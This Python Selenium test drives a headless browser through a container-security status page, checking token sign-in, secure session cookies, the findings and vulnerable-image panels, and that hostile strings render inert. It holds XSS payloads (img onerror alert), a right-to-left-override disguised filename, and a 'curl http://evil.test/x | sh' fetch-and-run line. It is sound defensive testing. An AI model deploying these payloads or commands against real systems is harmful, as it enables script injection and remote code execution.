# SPDX-License-Identifier: Apache-2.0
"""The status page in headless Chromium, against a real collector and
PostgreSQL holding known data (sent through the real ingest path): the page
is the sign-in form until a token is posted to it, which sets the session
cookie (HttpOnly: no script sees it); then check the agents, events,
findings and containers rendered, that attacker-controlled strings (a
container named <script>alert(1)</script> and labelled
<img src=x onerror=alert(1)>) show as text and run nothing, that the pages
need no CSP exception, save a screenshot, and sign out."""

import os
import shutil
import tempfile
import time

import pytest

import apitest as at
import vigiltest as vt

try:
    from selenium import webdriver
    from selenium.common.exceptions import (NoAlertPresentException,
                                            StaleElementReferenceException)
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait
except ImportError:  # reported by the browser fixture: a failure, not a skip
    webdriver = None

F = at.Fleet
EVIL = ("<b>bold</b><img src=x onerror=alert(2)>\u202eevil\x1b[31mred \u05e9\u05dc\u05d5\u05dd"
        "\u200bzero\u2066width\u2069\ufeff")
EVIL_ID = "e7" * 32


def shown(s):
    """S as the page shows it: control characters, bidirectional controls
    and invisible characters as their code points (they would reorder or
    hide what is next to them)."""
    import re
    return re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u115f\u1160\u180e\u200b-\u200f"
                  "\u2028-\u202e\u2060-\u206f\u3164\ufeff\ufff9-\ufffb]",
                  lambda m: "[U+%04X]" % ord(m.group(0)), s)
CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"


@pytest.fixture(scope="module")
def env(module_collector_factory, module_db, pki, collector_bin):
    hport = vt.free_port()
    coll = module_collector_factory(module_db, flags={"--http-listen": "127.0.0.1:%d" % hport})
    keep = F().load(coll.port, pki)
    # a privileged container whose name and mounted path are hostile: its
    # findings carry them (HTML, RLO, ANSI escapes)
    cert, key = pki.agent(F.NODE2)
    with vt.RawAgent(coll.port, vt.client_context(pki, cert, key)).connect() as a2:
        a2.hello()
        a2.batch(2, [vt.container_started_event(EVIL_ID, EVIL, privileged=True,
                                                mounts=[("/etc/" + EVIL, "/x", False)])])
    tok = at.create_token(collector_bin, module_db, "browser", "viewer")
    yield {"url": "https://localhost:%d/" % hport, "token": tok, "coll": coll,
           "api": at.Api(hport, pki, tok)}
    keep.close()


@pytest.fixture(scope="module")
def browser(workdir):
    if webdriver is None or not (os.access(CHROMIUM, os.X_OK) and
                                 os.access(CHROMEDRIVER, os.X_OK)):
        pytest.fail("chromium, chromium-driver and python3-selenium must be installed "
                    "(scripts/deps.sh)")
    profile = tempfile.mkdtemp(prefix="vigil-chromium-", dir=workdir)
    o = webdriver.ChromeOptions()
    o.binary_location = CHROMIUM
    for a in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic",
              "--no-first-run", "--disable-background-networking",
              "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
              "--window-size=1400,1800", "--user-data-dir=" + profile):
        o.add_argument(a)
    # The test CA is not in Chromium's store; TLS itself is tested in test_api.py.
    o.set_capability("acceptInsecureCerts", True)
    o.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    d = webdriver.Chrome(service=Service(CHROMEDRIVER), options=o)
    d.set_page_load_timeout(30)
    yield d
    d.quit()
    shutil.rmtree(profile, ignore_errors=True)


def wait(d, seconds):
    return WebDriverWait(d, seconds, ignored_exceptions=[StaleElementReferenceException])


def no_alert(d):
    try:
        a = d.switch_to.alert
        text = a.text
        a.dismiss()
        raise AssertionError("an alert ran: %r" % text)
    except NoAlertPresentException:
        pass


def click_container(d, name):
    """Click the container row named NAME (the table is redrawn every 10 s,
    so a row found a moment ago may be gone: look again)."""
    for _ in range(20):
        try:
            for tr in d.find_elements(By.CSS_SELECTOR, "#containers tbody tr"):
                if tr.find_elements(By.TAG_NAME, "td")[0].text == name:
                    tr.click()
                    return
        except StaleElementReferenceException:
            pass
        time.sleep(0.2)
    raise AssertionError("no container row %r" % name)


def table_texts(d, table_id):
    for _ in range(20):
        try:
            return [[td.text for td in tr.find_elements(By.TAG_NAME, "td")]
                    for tr in d.find_elements(By.CSS_SELECTOR, "#%s tbody tr" % table_id)]
        except StaleElementReferenceException:
            time.sleep(0.1)  # redrawn by the page's refresh: read again
    raise AssertionError("table %s keeps changing" % table_id)


def signin_page_shown(d):
    """The sign-in page: its form, no dashboard, no script."""
    assert d.find_element(By.ID, "signin-form").is_displayed()
    assert not d.find_elements(By.ID, "dash")
    assert d.execute_script("return document.scripts.length") == 0


def test_status_page(env, browser, workdir):
    d = browser
    t0 = time.monotonic()
    d.get(env["url"])
    signin_page_shown(d)
    assert not d.find_elements(By.ID, "signin-error")

    # a wrong token is refused
    d.find_element(By.ID, "token").send_keys("vgl_" + "0" * 64)
    d.find_element(By.ID, "signin-form").submit()
    wait(d, 15).until(lambda x: x.find_elements(By.ID, "signin-error"))
    assert "not accepted" in d.find_element(By.ID, "signin-error").text
    signin_page_shown(d)
    assert not d.get_cookies()

    d.find_element(By.ID, "token").send_keys(env["token"])
    d.find_element(By.ID, "signin-form").submit()
    wait(d, 30).until(
        lambda x: x.execute_script("return document.body.dataset.loaded") == "1")
    load_s = time.monotonic() - t0
    assert d.current_url == env["url"]
    assert d.find_element(By.ID, "who").text == "token:browser (viewer)"
    cookies = {c["name"]: c for c in d.get_cookies()}
    assert set(cookies) == {at.COOKIE}
    c = cookies[at.COOKIE]
    # a session id, never the token (tests/integration/test_http_sessions.py)
    session = c["value"]
    assert session.startswith("vgs_") and session != env["token"]
    assert c["httpOnly"] and c["secure"]
    assert c["sameSite"] == "Strict" and c["path"] == "/"
    # no script sees the token: not in the cookie jar it reads, nor stored
    assert d.execute_script("return document.cookie") == ""
    assert d.execute_script("return sessionStorage.length + localStorage.length") == 0

    agents = {r[0]: r for r in table_texts(d, "agents")}
    assert set(agents) == {F.NODE1, F.NODE2}
    assert agents[F.NODE1][2] == "online" and agents[F.NODE1][4] == "itest/1"
    assert d.find_element(By.ID, "t-online").text in ("1", "2")

    high = table_texts(d, "high")
    assert any("curl http://evil.test/x | sh" in r[4] for r in high), high
    assert any(r[2] == "critical" and r[3] == "finding" for r in high), high
    assert table_texts(d, "findings")

    rows = table_texts(d, "containers")
    names = [r[0] for r in rows]
    assert at.XSS_NAME in names and "web-1" in names and at.FORMULA_NAME in names
    assert len(rows[0]) == 8  # the last column: open findings
    xss_row = rows[names.index(at.XSS_NAME)]
    assert "note=" + at.XSS_LABEL in xss_row[5]

    # the XSS strings are text: no element was made of them, nothing ran
    no_alert(d)
    assert d.execute_script("return document.querySelectorAll('img').length") == 0
    scripts = d.execute_script(
        "return Array.from(document.scripts).map(s => s.getAttribute('src'))")
    assert sorted(scripts) == ["/app.js", "/vendor/uplot/uPlot.iife.min.js"]
    assert d.execute_script("return document.querySelectorAll('[onerror]').length") == 0

    # one container's timeline
    click_container(d, "web-1")
    wait(d, 15).until(
        lambda x: len(x.find_elements(By.CSS_SELECTOR, "#timeline li")) >= 8)
    assert d.find_element(By.ID, "timeline-id").text == F.C1
    tl = d.find_element(By.ID, "timeline").text
    assert "curl http://evil.test/x | sh" in tl and "/bin/sh -c step 0" in tl
    click_container(d, at.XSS_NAME)
    wait(d, 15).until(
        lambda x: x.find_element(By.ID, "timeline-name").text == at.XSS_NAME)
    no_alert(d)

    # search
    box = d.find_element(By.ID, "search")
    box.send_keys("web-")
    d.find_element(By.ID, "search-form").submit()
    wait(d, 15).until(
        lambda x: sorted(r[0] for r in table_texts(x, "containers")) == ["web-1", "web-2"])

    # the chart is drawn by the vendored uPlot (canvas), no CSP violation anywhere
    assert d.execute_script("return typeof uPlot") == "function"
    assert d.find_elements(By.CSS_SELECTOR, "#chart canvas")
    logs = d.get_log("browser")
    csp = [e for e in logs if "Content Security Policy" in e.get("message", "")]
    assert not csp, csp
    severe = [e for e in logs if e.get("level") == "SEVERE" and "favicon" not in e["message"]
              and "401" not in e["message"]]
    assert not severe, severe

    shots = os.environ.get("VIGIL_SCREENSHOT_DIR") or workdir
    os.makedirs(shots, exist_ok=True)
    path = os.path.join(shots, "status-page.png")
    assert d.save_screenshot(path)
    assert os.path.getsize(path) > 10000
    print("\nstatus page loaded and signed in in %.2f s; screenshot %s" % (load_s, path))

    # sign out ends the session and clears the cookie; the page is the
    # sign-in page again, and the old cookie, replayed, is refused
    d.find_element(By.ID, "signout").click()
    wait(d, 15).until(lambda x: x.find_elements(By.ID, "signin-form"))
    signin_page_shown(d)
    assert not d.get_cookies()
    assert env["api"].get("/api/v1/whoami", token="", cookie=session).status == 401
    d.get(env["url"] + "app.js")
    signin_page_shown(d)
    logs = d.get_log("browser")
    csp = [e for e in logs if "Content Security Policy" in e.get("message", "")]
    assert not csp, csp


def cell_texts(d, table_id):
    """Each row's cells as textContent (what the DOM holds, not what
    Selenium makes of it: control characters and RLO included)."""
    return d.execute_script(
        "return Array.from(document.querySelectorAll('#' + arguments[0] + ' tbody tr'))"
        ".map(tr => Array.from(tr.cells).map(td => td.textContent))", table_id)


def click_row(d, table_id, col, text):
    """Click the first row of TABLE_ID whose cell COL holds TEXT."""
    for _ in range(20):
        try:
            for i, cells in enumerate(cell_texts(d, table_id)):
                if cells[col] == text:
                    d.find_elements(By.CSS_SELECTOR, "#%s tbody tr" % table_id)[i].click()
                    return
        except (StaleElementReferenceException, IndexError):
            pass
        time.sleep(0.2)
    raise AssertionError("no %s row with %r" % (table_id, text))


def test_findings_panel(env, browser):
    """The open findings: counts by severity as the API counts them, the
    newest with their remediation, hostile strings as text, a click opens
    the container's timeline; each container row shows its open findings."""
    d, api = browser, env["api"]
    d.get(env["url"])
    if d.find_elements(By.ID, "signin-form"):
        d.find_element(By.ID, "token").send_keys(env["token"])
        d.find_element(By.ID, "signin-form").submit()
    wait(d, 30).until(
        lambda x: x.execute_script("return document.body.dataset.loaded") == "1")
    want = api.ok("/api/v1/findings", {"state": "open", "limit": 20})
    assert want["by_severity"]["critical"] >= 2  # web-1 and the hostile one: privileged
    for sev, n in want["by_severity"].items():
        assert d.find_element(By.ID, "f-" + sev).text == str(n), sev
    unknown = d.find_element(By.ID, "f-unknown").text
    if want["unknown"]:
        assert unknown.startswith("%d checks not judged" % want["unknown"]), unknown
    else:
        assert unknown == "every check judged"

    rows = cell_texts(d, "findings")
    assert len(rows) == len(want["findings"])
    by_id = {(f["container_id"], f["rule"], f["key"]): f for f in want["findings"]}
    priv = by_id[(F.C1, "privileged", "")]
    row = next(r for r in rows if r[3] == "web-1" and r[2] == priv["title"])
    assert row[1] == "critical" and row[4] == F.NODE1
    assert row[5] == priv["summary"] and row[6] == priv["remediation"]
    # the hostile container's findings: its name and the mount path as text
    evil = [r for r in rows if r[3] == shown(EVIL)]
    assert evil, rows
    for f in [f for f in want["findings"] if f["container_id"] == EVIL_ID]:
        title = f["title"] + (" " + shown(f["key"]) if f["key"] else "")
        assert [shown(f["summary"]), f["remediation"]] in [r[5:] for r in evil
                                                           if r[2] == title], f
    mount = api.ok("/api/v1/findings", {"container": EVIL_ID, "rule": "sensitive_mount"})
    key = mount["findings"][0]["key"]
    assert "\u202e" in key and "<img src=x" in key and "\x1b" not in key
    no_alert(d)
    assert d.execute_script("return document.querySelectorAll('img, b').length") == 0
    assert d.execute_script("return document.querySelectorAll('[onerror]').length") == 0

    # a click opens the container's timeline, which shows its findings
    assert "[U+202E]" in shown(EVIL) and "\u202e" not in str(rows)  # RLO made visible
    for c in ("[U+200B]", "[U+2066]", "[U+2069]", "[U+FEFF]"):  # and the invisible ones
        assert c in shown(EVIL)
    # each string from outside is isolated: right-to-left text in the
    # hostile name (Hebrew) reorders nothing around it
    iso = d.execute_script(
        "const out = [];"
        "for (const td of document.querySelectorAll('#findings tbody td, #containers tbody td'))"
        "  if (td.textContent.includes('evil')) out.push(getComputedStyle(td).unicodeBidi);"
        "return out;")
    assert iso and set(iso) == {"isolate"}, iso
    click_row(d, "findings", 3, shown(EVIL))
    wait(d, 15).until(lambda x: x.find_element(By.ID, "timeline-id").text == EVIL_ID)
    assert d.execute_script(
        "return document.getElementById('timeline-name').textContent") == shown(EVIL)
    wait(d, 15).until(lambda x: "privileged" in x.find_element(By.ID, "timeline").text)
    click_row(d, "findings", 3, "web-1")
    wait(d, 15).until(lambda x: x.find_element(By.ID, "timeline-id").text == F.C1)
    no_alert(d)

    # each container row: its open findings, coloured by the worst
    cs = {c["id"]: c for c in api.ok("/api/v1/containers", {"limit": 200})["containers"]}
    rows = {r[0]: r for r in cell_texts(d, "containers")}
    assert rows["web-1"][7] == str(cs[F.C1]["findings_open"]) != "0"
    assert rows[shown(EVIL)][7] == str(cs[EVIL_ID]["findings_open"])
    cls = d.execute_script(
        "for (const tr of document.querySelectorAll('#containers tbody tr'))"
        "  if (tr.cells[0].textContent === 'web-1') return tr.cells[7].firstChild.className;")
    assert cls == "sev-critical"
    logs = d.get_log("browser")
    csp = [e for e in logs if "Content Security Policy" in e.get("message", "")]
    assert not csp, csp


HOSTILE_IMAGE = "registry.test/<img src=x onerror=alert(4)>\u202egnp.exe:1"
VULN_DIGEST = "sha256:" + "d4" * 32
VULN_CID = "d4" * 32


def test_vulnerable_images_panel(env, browser, pki, module_db, collector_bin, workdir):
    """The vulnerable images panel: an image running a package an imported
    advisory names is listed with its worst severity and running
    containers; its hostile name shows as text, isolated, its RLO visible."""
    import json
    import subprocess
    d, api, coll = browser, env["api"], env["coll"]
    cert, key = pki.agent("vuln-node")
    with vt.RawAgent(coll.port, vt.client_context(pki, cert, key)).connect() as a:
        a.hello()
        e = vt.container_started_event(VULN_CID, "vuln-web", image=HOSTILE_IMAGE)
        e.container_started.container.image_digest = VULN_DIGEST
        inv = vt.image_inventory_event(
            VULN_DIGEST, [("libssl3", "3.0.11-1~deb12u1", "amd64", "openssl",
                           "3.0.11-1~deb12u1")], image=HOSTILE_IMAGE, container_id=VULN_CID)
        a.batch(1, [e, inv])
    path = os.path.join(workdir, "browser-osv", "DSA-9901-1.json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        json.dump({"schema_version": "1.6.0", "id": "DSA-9901-1",
                   "modified": "2024-01-15T10:00:00Z", "aliases": ["CVE-2099-9901"],
                   "affected": [{"package": {"ecosystem": "Debian:12", "name": "openssl"},
                                 "ranges": [{"type": "ECOSYSTEM", "events": [
                                     {"introduced": "0"}, {"fixed": "3.0.11-1~deb12u2"}]}],
                                 "ecosystem_specific": {"urgency": "high"}}]}, f)
    r = subprocess.run([collector_bin, "advisories", "import", path, "--db", module_db.conninfo,
                        "--log-level", "warn"], capture_output=True, text=True, timeout=120,
                       env=vt.sanitizer_env())
    assert r.returncode == 0, r.stderr

    def listed():
        top = api.ok("/api/v1/vulnerabilities", {"limit": 10}).get("top_images") or []
        return [i for i in top if i["image_id"] == VULN_DIGEST]
    vt.wait_for(listed, 30, interval=0.5, what="the image matched")
    d.get(env["url"])
    if d.find_elements(By.ID, "signin-form"):
        d.find_element(By.ID, "token").send_keys(env["token"])
        d.find_element(By.ID, "signin-form").submit()
    wait(d, 30).until(
        lambda x: x.execute_script("return document.body.dataset.loaded") == "1")
    wait(d, 30).until(lambda x: any(r[0] == shown(HOSTILE_IMAGE)
                                    for r in cell_texts(x, "vuln-images")))
    row = next(r for r in cell_texts(d, "vuln-images") if r[0] == shown(HOSTILE_IMAGE))
    assert row[1] == "high" and int(row[2]) >= 1 and row[4] == "1", row
    assert "[U+202E]" in row[0] and "\u202e" not in row[0]
    iso = d.execute_script(
        "for (const td of document.querySelectorAll('#vuln-images tbody td'))"
        "  if (td.textContent.includes('gnp.exe')) return getComputedStyle(td.firstChild)"
        "    .unicodeBidi;")
    assert iso == "isolate", iso
    assert "images with known vulnerabilities" in d.find_element(By.ID, "vuln-summary").text
    no_alert(d)
    assert d.execute_script("return document.querySelectorAll('img').length") == 0
